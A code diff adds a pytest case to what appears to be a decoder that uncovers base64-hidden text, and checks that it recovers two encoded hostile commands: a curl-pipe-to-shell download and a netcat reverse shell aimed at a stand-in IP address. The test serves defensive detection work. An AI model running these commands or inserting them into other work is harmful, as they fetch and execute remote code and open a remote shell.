@@ -130,6 +130,11 @@ def test_what_is_no_hidden_text_is_left_alone(raw: str) -> None:
     assert decoded(raw) == []
 
 
+@pytest.mark.parametrize("command", ["curl http://198.51.100.7:4444/x | sh", "nc 198.51.100.7 4444 -e /bin/sh"])
+def test_a_command_of_few_letters_is_read(command: str) -> None:
+    assert [view.text for view in decoded(f"init={b64(command)}")] == [command]
+
+
 def test_nesting_ends_at_three() -> None:
     run = b64(b64(b64(b64(MEANT))))
     assert [view.how for view in decoded(run)] == ["base64", "base64>base64", "base64>base64>base64"]
